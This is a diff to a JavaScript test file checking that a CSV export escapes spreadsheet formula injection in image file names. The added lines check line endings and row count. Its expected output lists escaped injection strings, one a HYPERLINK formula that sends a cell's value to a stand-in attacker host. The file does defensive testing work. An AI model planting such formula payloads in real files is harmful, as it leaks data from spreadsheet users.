@@ -117,6 +117,8 @@ t.test('CSV: a file name a spreadsheet would run as a formula is written as text
     '\'=HYPERLINK("http://evil.example/?"&A1,"open").jpg', '\'+1+cmd.jpg', '\'-2+3.png', '\'@SUM(1).dcm', '\'\t=1.jpg', 'slice-=1.jpg'
   ], 'an apostrophe before the formula characters, none elsewhere')
   t.ok(rows.every((row) => row.includes(",CORRUPT_IMAGE,'=not a formula either,")), 'every text cell, the message too')
+  t.notMatch(csv, /\r\n/, 'lines end with LF alone (hospital.md): a CR would stick to the last column in cut and awk')
+  t.equal(csv.split('\n').length, names.length + 2, 'a header, one line per file, a final newline')
 })
 
 t.test('an unknown --format is a usage error', async (t) => {
